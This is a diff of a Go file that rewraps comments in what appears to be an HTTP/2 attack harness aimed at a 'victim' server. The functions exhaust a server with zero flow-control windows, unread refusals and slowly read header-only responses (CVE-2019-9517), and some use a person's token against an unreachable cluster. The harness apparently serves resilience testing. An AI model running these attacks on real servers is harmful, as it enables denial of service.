@@ -21,11 +21,12 @@ const streamsPerConnection = 1000
 // errClosed means that the server has closed a connection that the attack wanted to hold.
 var errClosed = errors.New("the server has closed the connection")
 
-// redirected is a path that a mux redirects, with the query in the answer's head: a large answer to a small request.
+// redirected is a path that a mux redirects, with the query in the answer's head: a large answer to
+// a small request.
 var redirected = "//x?" + strings.Repeat("q", 3900)
 
-// zeroWindow requests many answers and allows no byte of their bodies. With a person's token it requests a cluster that the person may not
-// reach.
+// zeroWindow requests many answers and allows no byte of their bodies. With a person's token it
+// requests a cluster that the person may not reach.
 func zeroWindow(ctx context.Context, v *victim) {
 	path, fields := "/metrics", []string(nil)
 	if v.personToken != "" {
@@ -49,8 +50,9 @@ func zeroWindow(ctx context.Context, v *victim) {
 	})
 }
 
-// unreadRefusals sends as much of many bodies as a server takes unasked, and allows no byte of the refusals. A server must not keep a
-// refused body until its peer has read the refusal. With a person's token the requests are for a cluster that the person may not reach.
+// unreadRefusals sends as much of many bodies as a server takes unasked, and allows no byte of the
+// refusals. A server must not keep a refused body until its peer has read the refusal. With a
+// person's token the requests are for a cluster that the person may not reach.
 func unreadRefusals(ctx context.Context, v *victim) {
 	path, fields := trivial, []string(nil)
 	if v.personToken != "" {
@@ -82,11 +84,12 @@ func unreadRefusals(ctx context.Context, v *victim) {
 	})
 }
 
-// slowHeads requests answers that consist only of a head, which no window bounds, and reads a few bytes now and then
-// (CVE-2019-9517).
+// slowHeads requests answers that consist only of a head, which no window bounds, and reads a few
+// bytes now and then (CVE-2019-9517).
 func slowHeads(ctx context.Context, v *victim) {
 	v.each(ctx, func(ctx context.Context) error {
-		// Without a table the server cannot compress its answers. After the first request, each path takes one byte.
+		// Without a table the server cannot compress its answers. After the first request, each
+		// path takes one byte.
 		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
 		if err != nil {
 			return err
